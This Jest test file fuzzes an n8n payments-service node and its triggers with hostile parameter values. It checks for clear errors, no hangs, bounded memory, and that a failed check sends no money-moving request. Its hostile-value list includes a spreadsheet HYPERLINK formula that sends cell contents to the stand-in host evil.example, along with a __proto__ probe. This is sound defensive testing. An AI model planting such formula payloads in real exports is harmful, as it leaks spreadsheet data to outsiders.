import { spawn } from 'child_process';
import { existsSync } from 'fs';
import path from 'path';
import { performance } from 'perf_hooks';

import {
	NodeApiError,
	NodeHelpers,
	type INode,
	type INodeParameters,
	type INodeProperties,
	type NodeParameterValueType,
} from 'n8n-workflow';

import { PaymentsService } from '../../nodes/PaymentsService/PaymentsService.node';
import { PaymentsServiceTrigger } from '../../nodes/PaymentsService/PaymentsServiceTrigger.node';
import { RESOURCES } from '../../nodes/PaymentsService/actions/registry';
import {
	CREDENTIAL_IDS,
	paymentsNode,
	WorkflowBuilder,
	type CredentialTypeName,
	type Fixture,
} from '../harness/fixtures';
import { PACKAGE_ROOT } from '../harness/packageInfo';
import { PollRunner } from '../harness/poll';
import { iso } from '../harness/records';
import { sharedFixture } from '../harness/sharedFixture';
import {
	cashoutNotificationForm,
	depositNotification,
	NOTIFICATION_TRIGGER,
	notificationWorkflow,
} from '../harness/notifications';
import { TRIGGER_NODE, triggerWorkflow } from '../harness/trigger';
import { WebhookRunner } from '../harness/webhook';
import { PaymentsServiceNotificationTrigger } from '../../nodes/PaymentsService/PaymentsServiceNotificationTrigger.node';

/**
 * Hostile values in every parameter of every operation and of both triggers, run through n8n's
 * engine against the sandbox (issue 38): values of the wrong type, empty, whitespace, huge,
 * negative, NaN, far dates, long texts, control characters, formulas. Each run has all other
 * parameters valid, so the hostile value is the only thing wrong, and must end, within a bound
 * that only a hang exceeds, with a result or a clear error: no JavaScript internal message reaches
 * the user, and an operation that moves money or changes state and fails a check sends nothing.
 */

const DAY = 86_400;

/** A run that takes longer than this has hung (a read of a long period took minutes). */
const HANG_MS = 20_000;
/** What one operation's runs may take together: a hang detector too, not a speed target. */
const OPERATION_BOUND_MS = 600_000;
/**
 * The heap a run may leave in use: what the engine, the sandbox and this file hold is about
 * 300 MiB; a read planning millions of windows (an end of 1e21) went past the whole heap.
 */
const HEAP_BOUND = 1024 * 2 ** 20;

/** Messages JavaScript writes, never the node: a user seeing one cannot tell what to fix. */
const INTERNAL =
	/Cannot read propert|is not a function|is not iterable|is not a constructor|undefined is not|null is not|Cannot convert|Cannot destructure|Cannot create property|Maximum call stack|Invalid time value|Invalid array length|Invalid string length|Unexpected token|is not defined|\[object Object\]|of undefined|of null/;

/** The values every parameter gets, one run each, in place of its valid value. */
const HOSTILE: Array<[string, NodeParameterValueType]> = [
	['empty', ''],
	['whitespace', ' \t\n '],
	['a number', 12345],
	['negative', -1],
	['zero', 0],
	['huge', 1e21],
	['NaN', '={{ NaN }}'],
	['Infinity', '={{ -Infinity }}'],
	['true', true],
	['null', null],
	['undefined', '={{ undefined }}'],
	['an object', { a: { b: [1] } } as unknown as NodeParameterValueType],
	['an array', ['x', 1] as unknown as NodeParameterValueType],
	['a long text', 'x'.repeat(100_000)],
	['control characters', '\u0000\u0007\u001b[2J\r\n\u202e\ud800'],
	// A text that starts with "=" is an n8n expression: this one gives the formula as a text.
	['a formula', '={{ "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"open\\")" }}'],
	['a far date', '9999-12-31T23:59:59Z'],
	['beyond any date', '+275760-09-13T00:00:00Z'],
	['a huge number as text', '1e21'],
	['a negative number as text', '-5'],
	['__proto__', '__proto__'],
];

/** One leaf parameter of an operation: its path in the node's parameters and its type. */
interface Leaf {
	path: string[];
	type: INodeProperties['type'];
	/** A fixedCollection group that holds several values (an array of objects). */
	multiple?: boolean;
}

/** The leaf parameters n8n shows for `parameters` (defaults filled), collections and groups opened. */
function leavesOf(
	properties: INodeProperties[],
	parameters: INodeParameters,
	description: PaymentsService['description'],
	typeVersion = 1,
): Leaf[] {
	const node = { typeVersion, parameters: {} } as unknown as INode;
	const values = NodeHelpers.getNodeParameters(
		properties,
		parameters,
		true,
		false,
		node,
		description,
	)!;
	const leaves: Leaf[] = [];
	const walk = (property: INodeProperties, path: string[], multiple?: boolean) => {
		if (property.type === 'collection')
			for (const option of property.options as INodeProperties[])
				walk(option, [...path, property.name]);
		else if (property.type === 'fixedCollection')
			for (const group of property.options as Array<{ name: string; values: INodeProperties[] }>)
				for (const option of group.values)
					walk(
						option,
						[...path, property.name, group.name],
						property.typeOptions?.multipleValues === true,
					);
		else leaves.push({ path: [...path, property.name], type: property.type, multiple });
	};
	for (const property of properties) {
		if (['resource', 'operation', 'toolDescription', 'notice'].includes(property.name)) continue;
		if (property.type === 'notice') continue;
		if (!NodeHelpers.displayParameter(values, property, node, description)) continue;
		walk(property, []);
	}
	return leaves;
}

/** `parameters` with the leaf at `leaf.path` set to `value` (a picker's value inside its locator). */
function withValue(
	parameters: INodeParameters,
	leaf: Leaf,
	value: NodeParameterValueType,
): INodeParameters {
	const copy = structuredClone(parameters) as Record<string, unknown>;
	const leafValue =
		leaf.type === 'resourceLocator' ? { __rl: true, mode: 'id', value } : (value as unknown);
	const [first, ...rest] = leaf.path;
	if (rest.length === 0) copy[first] = leafValue;
	else if (leaf.path.length === 2) {
		copy[first] = { ...((copy[first] as object) ?? {}), [rest[0]]: leafValue };
	} else {
		const [group, name] = rest;
		const collection = ((copy[first] as Record<string, unknown>) ?? {}) as Record<string, unknown>;
		const existing = collection[group];
		const entry = {
			...((Array.isArray(existing) ? existing[0] : existing) as object),
			[name]: leafValue,
		};
		copy[first] = { ...collection, [group]: leaf.multiple ? [entry] : entry };
	}
	return copy as INodeParameters;
}

/** Ids of records the sandbox holds, for the operations that act on one. */
interface Ids {
	pendingCashout: string;
	/** Completed deposits older than an hour (flags and refunds take them), one per run in turn. */
	completedDeposits: string[];
}

const picked = (value: string) => ({ __rl: true, mode: 'list', value });

/**
 * Valid parameters of each operation, so that a hostile value is the only thing wrong; `run`
 * makes the creations' input unique in two fields, so that a hostile value blanking one leaves it
 * unique (a creation repeated from the same input is refused as a repeat, a check of its own), and
 * picks the deposit a refund or a flag is for in turn.
 */
function baseOf(resource: string, operation: string, ids: Ids, run: number): INodeParameters {
	const now = Math.floor(Date.now() / 1000);
	// Ends an hour ago: the records the creations make meanwhile stay out of the reads.
	const period = { period: 'custom', createdFrom: iso(now - 3 * DAY), createdTo: iso(now - 3_600) };
	if (['getMany', 'summarize', 'exportToFile', 'getDailyReport', 'reconcile'].includes(operation))
		return operation === 'getMany' && ['bank', 'paymentMethod'].includes(resource)
			? { country: picked('BR'), limit: 5 }
			: { ...period, limit: 5 };
	const key = `${resource}.${operation}`;
	const deposit = ids.completedDeposits[run % ids.completedDeposits.length];
	const bases: Record<string, INodeParameters> = {
		'cashout.create': {
			externalId: `hostile-${run}`,
			country: picked('BR'),
			amount: '250.00',
			additionalFields: { comments: `hostile-${run}` },
			documentId: '84932495016',
			beneficiaryName: 'Ana',
			notificationUrl: 'https://shop.example.com/payouts/notify',
			beneficiary: { beneficiaryLastName: 'Souza', email: 'ana@example.com', documentType: 'CPF' },
			bankAccount: {
				bankCode: picked('341'),
				bankAccount: '12345-6',
				bankBranch: '0001',
				accountType: 'C',
			},
		},
		'cashout.getStatus': { cashoutId: ids.pendingCashout },
		'cashout.cancel': { cashoutId: ids.pendingCashout },
		'cashout.putOnHold': { cashoutId: ids.pendingCashout },
		'cashout.releaseHold': { cashoutId: ids.pendingCashout },
		'deposit.create': {
			amount: '150.25',
			currency: 'BRL',
			country: picked('BR'),
			additionalFields: { invoiceId: `hostile-${run}`, description: `hostile-${run}` },
		},
		'deposit.getStatus': { depositId: deposit },
		'deposit.flagForReview': { depositId: deposit, confirm: false },
		'deposit.flagReversalForReview': { depositId: deposit, confirm: false },
		'exchangeRate.get': { country: picked('BR'), amount: 100 },
		'refund.create': {
			identifyBy: 'depositId',
			depositId: deposit,
			amount: '1.00',
			additionalFields: {
				comments: `hostile-${run}`,
				notificationUrl: `https://shop.example.com/refunds/${run}`,
			},
		},
		'refund.getStatus': { refundId: '1' },
		'ticket.createDraft': { type: 'DEPOSIT', description: 'A hostile-value check' },
		'ticket.addAttachment': { ticketId: '1', binaryPropertyName: 'data', documentType: 'VOUCHER' },
		'ticket.confirm': { ticketId: '1' },
	};
	return bases[key] ?? {};
}

/** Operations whose request changes something at the service: a failed check must send nothing. */
const CHANGES = /^(POST|PUT|DELETE|PATCH)$/;
/** Requests that only open or switch a session. */
const SESSION_PATHS = /^\/v1\/auth\//;

/** What went wrong in one run, for the failure message. */
interface Problem {
	case: string;
	problem: string;
}

/** The error's message and description, as the user sees them. */
function textsOf(error: Error): string[] {
	const described = error as Error & { description?: unknown };
	return [error.message, typeof described.description === 'string' ? described.description : ''];
}

/** A run that did not end within {@link HANG_MS}. */
class HangError extends Error {}

/** Runs `run` and fails it when it takes longer than {@link HANG_MS}. */
async function withinBound<T>(label: string, run: () => Promise<T>): Promise<T> {
	let timer: NodeJS.Timeout | undefined;
	const hang = new Promise<never>((_, reject) => {
		timer = setTimeout(
			() => reject(new HangError(`${label}: no end after ${HANG_MS} ms`)),
			HANG_MS,
		);
	});
	try {
		return await Promise.race([run(), hang]);
	} finally {
		clearTimeout(timer);
	}
}

/** The heap in use after a run, when it is past {@link HEAP_BOUND}. */
function heapOf(label: string): Problem[] {
	const used = process.memoryUsage().heapUsed;
	return used > HEAP_BOUND
		? [{ case: label, problem: `${Math.round(used / 2 ** 20)} MiB of heap in use after it` }]
		: [];
}

/** Judges an error's texts: the user reads what to fix, never what JavaScript tripped over. */
function judgeTexts(label: string, error: Error): Problem[] {
	const problems: Problem[] = [];
	for (const text of textsOf(error))
		if (INTERNAL.test(text)) problems.push({ case: label, problem: `internal message: ${text}` });
	if (!error.message.trim()) problems.push({ case: label, problem: 'an empty error message' });
	return problems;
}

/** Judges one run of an action: a result, or a clear error; nothing changed when a check failed. */
function judgeAction(
	fx: Fixture,
	label: string,
	error: Error | undefined,
	reads: boolean,
): Problem[] {
	if (!error) return [];
	const problems = judgeTexts(label, error);
	// The service's answers: an error it sent, and a repeat it recognised (a key already used: the
	// node then reads the earlier record, and refuses the repeat).
	const fromService =
		error instanceof NodeApiError ||
		'httpCode' in error ||
		/repeats an? \w+ an earlier execution requested|was already used/.test(error.message);
	if (!reads && !fromService) {
		const sent = fx.sandbox.log
			.entries()
			.filter((entry) => CHANGES.test(entry.method) && !SESSION_PATHS.test(entry.path));
		if (sent.length)
			problems.push({
				case: label,
				problem: `failed a check ("${error.message.slice(0, 120)}") after sending ${sent.map((entry) => `${entry.method} ${entry.path}`).join(', ')}`,
			});
	}
	return problems;
}

/** The credential an operation runs with, as the fixtures name it. */
function credentialOf(kind: string): CredentialTypeName {
	const names: Record<string, CredentialTypeName> = {
		session: 'paymentsServiceSessionApi',
		readOnly: 'paymentsServiceReadOnlyApi',
		deposit: 'paymentsServiceDepositApi',
		cashout: 'paymentsServiceCashoutApi',
	};
	return names[kind];
}

describe('Hostile values in every parameter end in a result or a clear error, and a failed check sends nothing', () => {
	const fixture = sharedFixture({ sandbox: { days: 180, depositsPerDay: 2, cashoutsPerDay: 2 } });
	const description = new PaymentsService().description;
	let ids: Ids;
	let runs = 0;
	const timings: number[] = [];

	beforeAll(() => {
		const { control, clock } = fixture().sandbox;
		const hourAgo = clock.now() - 3_600_000;
		ids = {
			pendingCashout: String(
				control.cashouts(1001).find((cashout) => cashout.status === 'PENDING')!.idCashout,
			),
			completedDeposits: control
				.deposits(1001)
				.filter(
					(deposit) => deposit.status === 'COMPLETED' && Date.parse(deposit.creationDate) < hourAgo,
				)
				.map((deposit) => String(deposit.idDeposit)),
		};
	});

	/**
	 * Runs one case within {@link HANG_MS} and judges how it ended (`run` gives the error it ended
	 * with, none for a result): the problems `judge` finds with the error, and a heap past its bound;
	 * or the hang.
	 */
	async function attempt(
		label: string,
		run: () => Promise<Error | undefined>,
		judge: (error: Error | undefined) => Problem[] = (error) =>
			error ? judgeTexts(label, error) : [],
	): Promise<Problem[]> {
		const start = performance.now();
		let error: Error | undefined;
		try {
			error = await withinBound(label, run);
		} catch (caught) {
			if (caught instanceof HangError) return [{ case: label, problem: caught.message }];
			// n8n refuses a workflow whose node has issues (a required parameter empty) before it runs.
			error = caught as Error;
		} finally {
			timings.push(performance.now() - start);
		}
		return [...judge(error), ...heapOf(label)];
	}

	afterAll(() => {
		const sorted = [...timings].sort((a, b) => a - b);
		const at = (share: number) =>
			sorted[Math.min(sorted.length - 1, Math.floor(share * sorted.length))];
		console.log(
			`hostile values: ${timings.length} runs, median ${at(0.5).toFixed(0)} ms, slowest ${at(1).toFixed(0)} ms, heap ${(process.memoryUsage().heapUsed / 2 ** 20).toFixed(0)} MiB`,
		);
	});

	const operations = RESOURCES.flatMap((resource) =>
		resource.operations.map((operation) => [resource.value, operation.value, operation] as const),
	);

	test.each(
		operations.map(([resource, operation, definition]) => [resource, operation, definition]),
	)(
		'%s → %s: every parameter, every hostile value',
		async (resource, operation, definition) => {
			const fx = fixture();
			const base = baseOf(resource, operation, ids, 0);
			const leaves = leavesOf(
				description.properties,
				{ resource, operation, ...base },
				description,
			);
			const problems: Problem[] = [];
			for (const leaf of leaves)
				for (const [name, value] of HOSTILE) {
					const label = `${leaf.path.join('.')} = ${name}`;
					fx.sandbox.log.clear();
					const parameters = withValue(baseOf(resource, operation, ids, ++runs), leaf, value);
					const builder = new WorkflowBuilder(`Hostile ${resource} ${operation}`);
					if (resource === 'ticket' && operation === 'addAttachment')
						builder.files('File', [
							{
								property: 'data',
								fileName: 'a.pdf',
								mimeType: 'application/pdf',
								data: Buffer.from('%PDF'),
							},
						]);
					builder.then(
						paymentsNode(
							{ resource, operation, ...parameters },
							credentialOf(definition.run.credential),
							{
								credentials: Object.fromEntries(
									['session', 'readOnly', 'deposit', 'cashout']
										.filter(
											(kind) =>
												kind === definition.run.credential ||
												kind === definition.pickerCredential ||
												kind === definition.rateCredential ||
												// A creation looks its earlier records up with it.
												(kind === 'session' && definition.run.repeat === 'keyed'),
										)
										.map((kind) => {
											const type = credentialOf(kind);
											return [type, { id: CREDENTIAL_IDS[type], name: type }];
										}),
								),
							},
						),
					);
					problems.push(
						...(await attempt(
							label,
							async () => (await fx.engine.run(builder.build())).error,
							(error) => judgeAction(fx, label, error, definition.run.repeat === 'safe'),
						)),
					);
				}
			expect(problems).toEqual([]);
		},
		OPERATION_BOUND_MS,
	);

	test.each([
		['deposit', 'newRecord'],
		['cashout', 'statusChanged'],
		['note', 'anyChange'],
	])(
		'the polling trigger on %s, %s: every parameter, every hostile value',
		async (resource, event) => {
			const fx = fixture();
			const trigger = new PaymentsServiceTrigger().description;
			const base: INodeParameters = {
				resource,
				event,
				...(event === 'statusChanged' ? { toStatuses: ['REJECTED'] } : {}),
			};
			const problems: Problem[] = [];
			// Version 2, what new nodes get: its parameters are version 1's and Max Records Remembered.
			for (const leaf of leavesOf(trigger.properties, base, trigger, 2))
				for (const [name, value] of HOSTILE) {
					const label = `${resource} ${event}: ${leaf.path.join('.')} = ${name}`;
					const runner = new PollRunner(
						fx.engine,
						triggerWorkflow(withValue(base, leaf, value), undefined, 2),
						TRIGGER_NODE,
					);
					// The activation poll, then one that reads: both must end, each with a clear outcome.
					problems.push(
						...(await attempt(
							label,
							async () => (await runner.poll()).error ?? (await runner.poll()).error,
						)),
					);
				}
			expect(problems).toEqual([]);
		},
		OPERATION_BOUND_MS,
	);

	test.each(['deposits', 'cashouts'])(
		'the notification trigger for %s: every parameter, every hostile value, on an authentic notification',
		async (notifications) => {
			const fx = fixture();
			const trigger = new PaymentsServiceNotificationTrigger().nodeVersions[2].description;
			const base: INodeParameters = { notifications };
			const payout = fx.sandbox.control.addCashout({
				idMerchant: 1001,
				externalId: 'hostile-notified',
			});
			const deposit = fx.sandbox.control.addDeposit({ idMerchant: 1001 });
			const problems: Problem[] = [];
			for (const leaf of leavesOf(trigger.properties, base, trigger))
				for (const [name, value] of HOSTILE) {
					const label = `${notifications}: ${leaf.path.join('.')} = ${name}`;
					const runner = new WebhookRunner(
						fx.engine,
						notificationWorkflow(withValue(base, leaf, value), undefined, 2),
						NOTIFICATION_TRIGGER,
					);
					const request =
						notifications === 'deposits'
							? depositNotification(deposit.idDeposit)
							: {
									contentType: 'application/x-www-form-urlencoded',
									body: cashoutNotificationForm(fx.sandbox, payout, fx.sandbox.clock.now()),
								};
					// What the node threw, or what it answered the service when that holds an internal message.
					problems.push(
						...(await attempt(label, async () => {
							const answer = await runner.call(request);
							return (
								answer.error ?? (INTERNAL.test(answer.body) ? new Error(answer.body) : undefined)
							);
						})),
					);
				}
			expect(problems).toEqual([]);
		},
		OPERATION_BOUND_MS,
	);
});

describe('Far period ends under a 512 MiB heap (a process of its own)', () => {
	/** One run of period.child.ts: the operation, Created To, and what came of it. */
	interface ChildRun {
		operation: string;
		createdTo: string;
		ms: number;
		requests: number;
		error?: string;
		records?: number;
		peakHeapMiB: number;
	}

	test('Get Many, Summarize and Export to File with Created To 9999-12-31T23:59:59Z read what an end of now reads; with 1e21 they fail at once naming the field; the process never runs out of its 512 MiB', async () => {
		const child = path.join(__dirname, 'lists', 'period.child.ts');
		// The child loads the built package, as n8n does (period.child.ts says why).
		if (
			!existsSync(
				path.join(PACKAGE_ROOT, 'dist', 'nodes', 'PaymentsService', 'PaymentsService.node.js'),
			)
		)
			throw new Error(
				'dist/ is not built: run npm test (or npm run build) before npm run test:long',
			);
		const { code, stdout, stderr } = await new Promise<{
			code: number | null;
			stdout: string;
			stderr: string;
		}>((resolve) => {
			const run = spawn(process.execPath, ['--max-old-space-size=512', '--import', 'tsx', child], {
				cwd: PACKAGE_ROOT,
				env: process.env,
			});
			let out = '';
			let err = '';
			run.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
			run.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
			run.on('close', (exit) => resolve({ code: exit, stdout: out, stderr: err }));
		});
		expect([code, stderr.includes('heap out of memory')]).toEqual([0, false]);
		const runs = stdout
			.split('\n')
			.filter((line) => line.startsWith('{'))
			.map((line) => JSON.parse(line) as ChildRun);
		expect(runs).toHaveLength(9);
		for (const operation of ['getMany', 'summarize', 'exportToFile']) {
			const [now, farEnd, beyond] = ['', '9999-12-31T23:59:59Z', '={{ 1e21 }}'].map((createdTo) =>
				runs.find((run) => run.operation === operation && run.createdTo === createdTo)!,
			);
			expect([now.error, farEnd.error]).toEqual([undefined, undefined]);
			expect(now.records).toBeGreaterThan(500);
			// The windows of [From, now]: the same, but for a window a busy second more or less divides.
			expect(farEnd.records).toBe(now.records);
			expect(Math.abs(farEnd.requests - now.requests)).toBeLessThanOrEqual(2);
			expect(beyond.error).toMatch(
				/^Invalid period in item 0: Created To "1e\+21" is after year 9999/,
			);
			expect(beyond.requests).toBe(0);
		}
		console.log(
			`far period ends, 512 MiB heap: ${runs.map((run) => `${run.operation} ${run.createdTo || 'now'} ${run.ms} ms, ${run.requests} requests, peak heap ${run.peakHeapMiB} MiB`).join('; ')}`,
		);
	}, 120_000);
});
